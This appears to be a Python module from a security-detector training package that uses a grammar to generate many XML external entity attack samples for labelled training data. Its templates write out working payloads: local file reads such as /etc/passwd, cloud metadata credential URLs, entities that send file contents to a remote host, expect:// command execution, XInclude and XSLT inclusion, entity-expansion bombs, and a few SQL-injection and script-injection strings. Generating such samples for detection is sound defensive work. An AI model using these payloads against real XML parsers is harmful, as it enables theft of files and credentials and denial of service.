"""XML external entities: local files, remote DTDs, inclusion, bombs, in many dialects of XML."""

from __future__ import annotations

from random import Random

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS
from securitai.train.corpora.attacks.style import percent, pretty_xml
from securitai.train.corpora.kinds import BODY, FILE, VALUE, AttackKind
from securitai.verdict import Category


def bomb(rng: Random) -> str:
    """Nested entities that grow with every level."""
    name = ("lol", "a", "x", "ha", "laugh", "bomb", "e")[int(rng.random() * 7)]
    levels = 3 + int(rng.random() * 8)
    fan = 2 + int(rng.random() * 9)
    lines = [f'<!ENTITY {name}0 "{name}">']
    for level in range(1, levels):
        lines.append(f'<!ENTITY {name}{level} "{f"&{name}{level - 1};" * fan}">')
    gap = "\n" if rng.random() < 0.6 else ""
    return f"<!DOCTYPE {name}z [{gap}{gap.join(lines)}{gap}]>{gap}<{name}z>&{name}{levels - 1};</{name}z>"


def wide_text(rng: Random, text: str) -> str:
    """A few documents in UTF-7 style, percent-encoded or with NUL bytes between the letters."""
    roll = rng.random()
    if roll < 0.94:
        return text
    if roll < 0.96:
        return text.replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-")
    if roll < 0.98:
        return percent(text)
    return "".join([char + "\0" for char in text])


_G = Grammar(
    r"""
decl:
  5×<?xml version="1.0" encoding="UTF-8"?>
  4×<?xml version="1.0"?>
  3×‹e›
  2×<?xml version="1.0" encoding="ISO-8859-1"?>
  <?xml version="1.0" encoding="utf-8" standalone="‹yes¦no›"?>
  <?xml version='1.0'?>
  <?xml version="1.0" encoding="UTF-‹7¦16¦16BE¦32›"?>
  <?xml version="1.1"?>
  <?xml encoding="utf-8"?>
gap:
  3×‹e›
  2×‹nl›
  ‹sp›
  ‹crlf›
el = foo¦root¦data¦test¦x¦a¦r¦user¦request¦message¦order¦stockCheck¦productId¦note¦methodCall¦change-log¦copyright¦creds¦document¦comments¦content¦body¦invoice¦customer¦login¦svg¦soap:Body¦rss¦kml¦gpx¦plist¦Autodiscover¦ernw¦reset¦contact¦xml¦config¦feed
ent = xxe¦file¦test¦ent¦x¦payload¦exec¦disclose¦example¦systemEntity¦foo¦e¦passwd¦name¦a¦content¦xx¦read¦bar
sys:
  4×file://‹u_file›
  file:///c:/‹w_file›
  file:////‹u_file›
  file:/‹u_file›
  file:///
  file:./
  file:///‹az›/‹az›.‹xml¦txt¦properties›
  3×‹url›
  ‹url›/‹az›.dtd
  http://169.254.169.254/latest/meta-data/iam/security-credentials/
  http://‹ipriv›:‹port›/
  php://filter/‹convert.base64-encode¦read=convert.base64-encode¦zlib.deflate›/resource=‹res›
  php://input
  expect://‹ucmd0›
  jar:http://‹host›/‹az›.jar!/‹az›.txt
  jar:file:///‹az›.zip!/‹az›
  netdoc://‹u_file›
  gopher://‹host›:‹port›/_‹az›
  ftp://‹host›:‹port›/%‹ent›;
  data://text/plain;base64,‹b64›
  ldap://‹host›/‹az›
  \\‹host›\‹az›
  ../../../../../../etc/passwd
  /dev/random
  local-file:///etc/passwd
  robots.txt
  ‹u_file›
res = index.php¦/etc/passwd¦config.php¦../config.php¦/var/www/html/index.php¦db.php¦.htaccess¦http://127.0.0.1/
usage:
  6×<‹x=el›>&‹$n›;</‹$x›>
  2×<‹x=el›><‹y=el›>&‹$n›;</‹$y›></‹$x›>
  <‹x=el›><‹y=el›>‹word›</‹y2›><‹z=el›>&‹$n›;</‹$z›></‹$x›>
  <‹x=el› ‹az›="‹n›">&‹$n›;</‹$x›>
  <‹x=el›>‹word› &‹$n›; ‹word›</‹$x›>
  &‹$n›;
  <‹x=el›/>
  <methodCall><methodName>&‹$n›;</methodName></methodCall>
  <soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><‹x=el›>&‹$n›;</‹$x›></soap:Body></soap:Envelope>
  <svg width="‹#10-900›px" height="‹#10-900›px" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" version="1.1"><text font-size="16" x="0" y="16">&‹$n›;</text></svg>
  <rss version="2.0"><channel><title>&‹$n›;</title><item><title>‹word›</title></item></channel></rss>
  <Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a"><Request><EMailAddress>‹mail›</EMailAddress><AcceptableResponseSchema>&‹$n›;</AcceptableResponseSchema></Request></Autodiscover>
  <urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>&‹$n›;</loc></url></urlset>
  <worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row><c><v>&‹$n›;</v></c></row></sheetData></worksheet>
  <plist version="1.0"><dict><key>‹az›</key><string>&‹$n›;</string></dict></plist>
  <samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="‹rnd›">&‹$n›;</samlp:Response>
  <userInfo><firstName>‹user›</firstName><lastName>&‹$n›;</lastName></userInfo>
  <xml><ToUserName>&‹$n›;</ToUserName><FromUserName>‹n›</FromUserName><Content>‹word›</Content></xml>
  <D:propfind xmlns:D="DAV:"><D:prop>&‹$n›;</D:prop></D:propfind>
y2 = b
root_el = foo¦root¦xxe¦test¦r¦a¦data¦x¦ANY¦convert¦copyright¦doc¦svg¦html¦change-log¦name¦lolz¦message¦svg¦soap:Envelope¦methodCall
document:
  8×‹decl›‹gap›<!DOCTYPE ‹root_el› [‹gap›<!ENTITY ‹n=ent› SYSTEM "‹sys›"‹?sp›>‹gap›]>‹gap›‹usage›
  4×‹decl›‹gap›<!DOCTYPE ‹x=root_el› [‹gap›<!ELEMENT ‹$x› ANY‹?sp›>‹gap›<!ENTITY ‹n=ent› SYSTEM "‹sys›"‹?sp›>‹gap›]>‹gap›‹usage›
  ‹decl›‹gap›<!DOCTYPE ‹root_el› [<!ENTITY ‹n=ent› SYSTEM '‹sys›'>]>‹usage›
  ‹decl›<!DOCTYPE ‹root_el› [<!ENTITY ‹n=ent› PUBLIC "‹az›" "‹sys›">]>‹usage›
  2×‹decl›‹gap›<!DOCTYPE ‹root_el› [‹gap›<!ENTITY % ‹n=ent› SYSTEM "‹url›">‹gap›%‹$n›;‹gap›]>‹gap›‹tail›
  2×‹decl›<!DOCTYPE ‹root_el› SYSTEM "‹url›"‹?gap›>‹tail›
  ‹decl›<!DOCTYPE ‹root_el› PUBLIC "-//‹az›/‹az›/EN" "‹url›">‹tail›
  ‹decl›<!DOCTYPE ‹root_el› [<!ENTITY % file SYSTEM "file://‹u_file›"><!ENTITY % dtd SYSTEM "‹url›"> %dtd;]>‹tail›
  ‹decl›<!DOCTYPE ‹root_el› [<!ENTITY % local SYSTEM "file:///usr/share/‹yelp/dtd/docbookx.dtd¦xml/fontconfig/fonts.dtd¦xml/scrollkeeper/dtds/scrollkeeper-omf.dtd›"><!ENTITY % ISOamso '<!ENTITY &#x25; file SYSTEM "file://‹u_file›"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///‹az›/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;'>%local;]>
  <!ENTITY % file SYSTEM "‹sys›"><!ENTITY % ‹x=ent› "<!ENTITY &#x25; ‹y=ent› SYSTEM '‹url›?%file;'>">%‹$x›;%‹$y›;
  <!ENTITY % ‹x=ent› "<!ENTITY send SYSTEM 'http://‹hostport›/?%file;'>">%‹$x›;
  ‹decl›<!DOCTYPE ‹root_el› [<!ENTITY ‹n=ent› "‹word›">]>‹usage›
  ‹decl›<!DOCTYPE ‹root_el› [<!ENTITY % ‹x=ent› "&#60;!ENTITY ‹n=ent› SYSTEM '‹sys›'>">%‹$x›;]>‹usage›
  ‹decl›<!DOCTYPE ‹root_el› [<!ENTITY a "&#x3C;!ENTITY b SYSTEM '‹sys›'>">]>&a;
  <!DOCTYPE ‹root_el› [<!ENTITY ‹ent› SYSTEM "‹sys›">]>
  <!DOCTYPE ‹root_el› [<!ENTITY ‹ent› SYSTEM "‹sys›">
  <!DOCTYPE ‹az› SYSTEM "‹url›">
  <!ENTITY ‹ent› SYSTEM "‹sys›">
  <!ENTITY % ‹ent› SYSTEM "‹sys›">
  %‹ent›;
  ]>&‹ent›;
  3×<‹x=el› xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include ‹?parse›href="‹sys›"/></‹$x›>
  <xi:include href="‹sys›" parse="text" xmlns:xi="http://www.w3.org/2001/XInclude"/>
  ‹decl›<?xml-stylesheet type="text/xsl" href="‹url›"?><‹x=el›/>
  <‹x=el› xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="‹url› ‹url›"/>
  <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document('‹sys›')"/></xsl:template></xsl:stylesheet>
  <xsl:include href="‹sys›"/>
  <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="‹sys›" width="‹n›" height="‹n›"/></svg>
  <svg xmlns="http://www.w3.org/2000/svg"><image href="expect://‹ucmd0›"/></svg>
  ‹decl›<!DOCTYPE ‹root_el› [<!ATTLIST ‹az› ‹az› CDATA "‹az›"><!ENTITY ‹n=ent› SYSTEM "‹sys›">]>‹usage›
  ‹decl›<!DOCTYPE ‹root_el› [<!ENTITY ‹n=ent› SYSTEM "‹sys›" NDATA ‹az›>]>‹usage›
  ‹decl›<!DOCTYPE ‹root_el› [<!NOTATION ‹az› SYSTEM "‹sys›"><!ENTITY ‹n=ent› SYSTEM "‹sys›">]>‹usage›
  2×‹bomb›
  ‹decl›‹gap›‹bomb›
  <foo><![CDATA[' or ‹d1›=‹d1› or ''=']]></foo>
  <‹x=el›><![CDATA[<]]>SCRIPT<![CDATA[>]]>alert('‹az›');<![CDATA[<]]>/SCRIPT<![CDATA[>]]></‹$x›>
  <soap:Envelope><soap:Header><work:WorkContext><![CDATA[<!DOCTYPE doc [<!ENTITY % ‹x=ent› SYSTEM "‹url›"> %‹$x›;]><xxx/>]]></work:WorkContext></soap:Header></soap:Envelope>
  {"xml":"<!DOCTYPE a [<!ENTITY ‹ent› SYSTEM \"‹sys›\">]>"}
parse:
  parse="text"‹sp›
tail:
  3×<‹x=el›/>
  2×<‹x=el›>‹word›</‹$x›>
  <‹x=el›>&send;</‹$x›>
  ‹e›
fragment:
  <!DOCTYPE ‹root_el› [<!ENTITY ‹ent› SYSTEM "‹sys›">]>
  <!ENTITY ‹ent› SYSTEM "‹sys›">
  <!ENTITY % ‹ent› SYSTEM "‹url›">
  <!DOCTYPE ‹root_el› SYSTEM "‹url›">
  <!--?xml version="1.0" ?--><!DOCTYPE ‹root_el› [<!ENTITY ‹n=ent› SYSTEM "‹sys›">]>‹usage›
  ‹document›
""",
    PARTS,
    {"bomb": bomb},
)
KINDS = (
    AttackKind(
        "xxe.document", Category.XXE, _G.maker("document", pretty_xml, wide_text), 4.0, (BODY, FILE)
    ),
    AttackKind(
        "xxe.value", Category.XXE, _G.maker("fragment", pretty_xml, wide_text), 3.0, (VALUE,)
    ),
)
